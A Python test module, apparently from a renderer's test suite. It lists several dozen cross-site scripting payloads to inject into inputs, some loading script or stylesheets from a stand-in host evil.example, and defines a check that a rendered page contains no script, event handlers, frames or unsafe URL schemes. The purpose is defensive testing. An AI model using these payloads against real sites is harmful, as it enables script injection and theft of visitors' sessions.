"""Attacks to put into every input, and the check that a rendered page runs none of them."""

import re

from lxml import etree

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>--><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="background:url(javascript:alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\tscript:alert(1)'>x</a>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '![x"onerror="alert(1)](y)',
    "# ![</h1><script>alert(1)</script>](x)",
    "# <h2>onerror=alert(1) x</h2>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x>",
    "<form action=javascript:alert(1)><button>x</button><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=javascript:alert(1) onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "javascript:alert(1)",
    "java\x01script:alert(1)",
    "\x00javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ":::note[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::",
    "> [!NOTE]\n> <script>alert(1)</script>",
    '```html"onmouseover=alert(1)\nx\n```',
    "\u2028</script>\u2029<!--",
)

_FORBIDDEN_NAMES = (
    "iframe object embed form button base applet frame frameset textarea select template noscript"
)
_FORBIDDEN_ELEMENTS = frozenset(_FORBIDDEN_NAMES.split())
_URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "cite",
    "background",
    "xlink:href",
)
_SAFE_SCHEME = re.compile(r"(?:https?|mailto|tel):|data:image/(?:png|jpeg|gif|webp);base64,", re.IGNORECASE)
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_BROWSER_IGNORES = re.compile(r"^[\x00-\x20]+|[\t\n\r]")


def assert_harmless(root: etree._Element) -> None:
    """Nothing in a parsed page runs script, loads a frame, submits, or restyles."""
    for element in root.iter(etree.Element):
        name = str(element.tag)
        assert name not in _FORBIDDEN_ELEMENTS, name
        if name == "script":
            assert element.get("type") == "application/ld+json"
            assert element.get("src") is None
        if name == "meta":
            assert element.get("http-equiv") is None
        for attribute, value in element.attrib.items():
            assert not attribute.lower().startswith("on"), (name, attribute)
            assert attribute not in ("style", "srcdoc"), (name, attribute)
            if attribute in _URL_ATTRIBUTES:
                url = _BROWSER_IGNORES.sub("", value)
                assert not _SCHEME.match(url) or _SAFE_SCHEME.match(url), (name, attribute, value)
